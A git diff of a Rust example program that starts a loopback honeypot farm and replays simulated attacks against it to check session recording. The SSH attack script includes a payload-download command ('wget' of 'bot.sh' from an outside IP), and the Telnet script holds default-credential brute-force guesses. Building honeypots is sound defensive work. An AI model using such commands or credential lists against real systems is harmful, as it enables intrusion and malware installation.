@@ -1,22 +1,94 @@
 //! Run a real mini honeyfarm on loopback TCP and attack it.
 //!
-//! The implementation lives in the `hf-wire` crate, which needs Tokio.
-//! That crate is parked while builds run offline — the build environment
-//! has no crates.io access and Tokio is too large to vendor as a subset
-//! (see crates/wire/Cargo.toml for how to restore it). This stub keeps the
-//! example target compiling so `cargo test` / `cargo build --examples`
-//! stay green; the original loopback-attack walkthrough is preserved in
-//! git history and in crates/wire's own sources.
+//! Starts a [`LiveFarm`] — every virtual node's SSH and Telnet listener
+//! bound on its own `127.18/127.19` mirror address, multiplexed through one
+//! epoll reactor — then plays three attacks against it over real sockets:
+//! an SSH intrusion that downloads a payload, a Telnet brute-force run, and
+//! a port scan that never sends credentials. Finally it shuts the farm down
+//! and prints what the collector recorded, demonstrating that the wire path
+//! produces the same session records the simulator does.
 //!
 //! ```sh
 //! cargo run --release --example live_farm
 //! ```
 
+use std::time::Duration;
+
+use honeyfarm::wire::{run_script, FarmConfig, LiveFarm, Timing};
+
 fn main() {
-    eprintln!(
-        "live_farm is unavailable in this build: the hf-wire crate (live \
-         Tokio TCP front-end) is excluded from offline builds. Restore it in \
-         the root Cargo.toml on a machine with crates.io access, then re-run."
+    let farm = LiveFarm::start(FarmConfig {
+        nodes: 4,
+        timing: Timing::Wall,
+        keep_records: true,
+        ..FarmConfig::default()
+    })
+    .expect("start live farm");
+    println!("live farm up:");
+    for node in farm.nodes() {
+        println!(
+            "  node {:>2}  ssh {}  telnet {}",
+            node.id, node.ssh, node.telnet
+        );
+    }
+    let timeout = Duration::from_secs(10);
+
+    // 1. An SSH intrusion: ident exchange, login, recon, payload fetch.
+    let ssh = farm.nodes()[0].ssh;
+    let reply = run_script(
+        ssh,
+        "SSH-2.0-Go\r\nUSER root\nPASS 123456\nuname -a\nwget http://203.0.113.9/bot.sh\nEXIT\n",
+        timeout,
+    )
+    .expect("ssh attack");
+    println!(
+        "\nssh intrusion against node 0 ({} reply bytes):",
+        reply.len()
     );
-    std::process::exit(1)
+    println!("{}", String::from_utf8_lossy(&reply));
+
+    // 2. A Telnet brute-force: wrong guesses until the auth cap closes it.
+    let telnet = farm.nodes()[1].telnet;
+    let reply = run_script(
+        telnet,
+        "admin\r\nadmin\r\nuser\r\n123456\r\nroot\r\nroot\r\n",
+        timeout,
+    )
+    .expect("telnet attack");
+    println!(
+        "telnet brute-force against node 1 ({} reply bytes)",
+        reply.len()
+    );
+
+    // 3. A scan: connect, say nothing, leave.
+    let reply = run_script(farm.nodes()[2].ssh, "", timeout).expect("scan");
+    println!(
+        "port scan against node 2 (banner: {:?})",
+        String::from_utf8_lossy(&reply).lines().next().unwrap_or("")
+    );
+
+    // Drain and inspect what the collector saw.
+    let out = farm.shutdown();
+    println!(
+        "\nfarm drained: {} sessions from {} clients (accepted {}, ingested {}, rejected {})",
+        out.dataset.len(),
+        out.n_clients,
+        out.stats.accepted(),
+        out.stats.ingested(),
+        out.stats.rejected_ip_cap(),
+    );
+    for rec in &out.records {
+        println!(
+            "  honeypot {:>2} {:?}: auth={} cmds={} end={:?}",
+            rec.honeypot,
+            rec.protocol,
+            rec.login_succeeded(),
+            rec.commands.len(),
+            rec.ended_by,
+        );
+    }
+    assert!(
+        out.stats.accounting_balanced(),
+        "every connection accounted for"
+    );
 }
